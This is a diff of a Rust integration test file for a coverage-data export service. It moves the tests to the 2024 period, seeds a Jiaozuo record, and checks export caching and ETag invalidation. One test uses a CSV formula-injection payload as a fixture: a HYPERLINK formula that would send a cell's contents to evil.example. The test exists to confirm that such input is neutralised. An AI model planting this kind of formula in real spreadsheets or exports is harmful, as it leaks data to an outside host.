@@ -247,12 +247,27 @@ async fn get_export(
 const UPDATE: &str = "mutation($input: UpdateCoverageInput!) { updateCoverage(input: $input) {
     coverage { source version } userErrors { field code } } }";
 
-/// Jiaozuo's 2023 enterprise record (version `version`) with `source`.
+/// Jiaozuo's 2024 enterprise record, which an administrator writes outside any round (public at
+/// once), as it stands.
+async fn jiaozuo_2024(app: &TestApp) {
+    app.insert_coverage(
+        "410800",
+        entity::BranchType::Enterprise,
+        2024,
+        Some(1),
+        Some(200),
+        Some(5),
+        None,
+    )
+    .await;
+}
+
+/// Jiaozuo's 2024 enterprise record (version `version`) with `source`.
 async fn set_source(app: &TestApp, admin: &str, source: &str, version: i32) -> Value {
     app.query_as(
         Some(admin),
         UPDATE,
-        json!({ "input": { "cityCode": "410800", "branchType": "ENTERPRISE", "period": 2023,
+        json!({ "input": { "cityCode": "410800", "branchType": "ENTERPRISE", "period": 2024,
                            "expectedVersion": version, "source": source } }),
     )
     .await
@@ -262,6 +277,7 @@ async fn set_source(app: &TestApp, admin: &str, source: &str, version: i32) -> V
 async fn a_repeated_export_is_answered_from_memory_until_the_next_commit_on_any_instance() {
     let app = TestApp::spawn().await;
     let admin = token(&app, "Province admin", Role::Admin, None).await;
+    jiaozuo_2024(&app).await;
     for path in [
         "/export/coverage.xlsx?period=2023",
         "/export/coverage.csv?lang=en",
@@ -281,24 +297,24 @@ async fn a_repeated_export_is_answered_from_memory_until_the_next_commit_on_any_
         let (status, _, body) = get_export(&app, path, Some(&etag)).await;
         assert_eq!((status, body.len()), (304, 0), "{path}");
     }
-    let (_, before, _) = get_export(&app, "/export/coverage.csv?period=2023", None).await;
-    let written = set_source(&app, &admin, "河南省科协 2023 年度年报（修订）", 1).await;
+    let (_, before, _) = get_export(&app, "/export/coverage.csv?period=2024", None).await;
+    let written = set_source(&app, &admin, "河南省科协 2024 年度年报（修订）", 1).await;
     assert_eq!(
         written["data"]["updateCoverage"]["userErrors"],
         json!([]),
         "{written}"
     );
     let (status, after, body) =
-        get_export(&app, "/export/coverage.csv?period=2023", before.as_deref()).await;
+        get_export(&app, "/export/coverage.csv?period=2024", before.as_deref()).await;
     assert_eq!(status, 200, "a commit makes the kept export stale");
     assert_ne!(after, before);
     assert!(String::from_utf8(body).unwrap().contains("（修订）"));
     if std::env::var("TEST_DATABASE_URL").is_ok_and(|u| !u.is_empty()) {
         // Another instance keeps its own, and drops it when this one commits.
         let other = app.second_instance().await;
-        let path = "/export/coverage.csv?period=2023";
+        let path = "/export/coverage.csv?period=2024";
         let (_, kept, _) = get_export(&other, path, None).await;
-        set_source(&app, &admin, "河南省科协 2023 年度年报（再次修订）", 2).await;
+        set_source(&app, &admin, "河南省科协 2024 年度年报（再次修订）", 2).await;
         let mut seen = false;
         for _ in 0..200 {
             let (_, etag, body) = get_export(&other, path, None).await;
@@ -320,6 +336,7 @@ async fn a_repeated_export_is_answered_from_memory_until_the_next_commit_on_any_
 async fn a_source_that_starts_like_a_formula_is_neutralised_in_csv_and_reads_back_as_stored() {
     let app = TestApp::spawn().await;
     let admin = token(&app, "Province admin", Role::Admin, None).await;
+    jiaozuo_2024(&app).await;
     let formula = r#"=HYPERLINK("http://evil.example/?leak="&A2, "Source: click for details")"#;
     let written = set_source(&app, &admin, formula, 1).await;
     assert_eq!(
@@ -327,7 +344,7 @@ async fn a_source_that_starts_like_a_formula_is_neutralised_in_csv_and_reads_bac
         json!([]),
         "{written}"
     );
-    let (_, csv) = crate::sheets::download(&app, "/export/coverage.csv?period=2023").await;
+    let (_, csv) = crate::sheets::download(&app, "/export/coverage.csv?period=2024").await;
     let text = String::from_utf8(csv.clone()).unwrap();
     let line = text
         .lines()
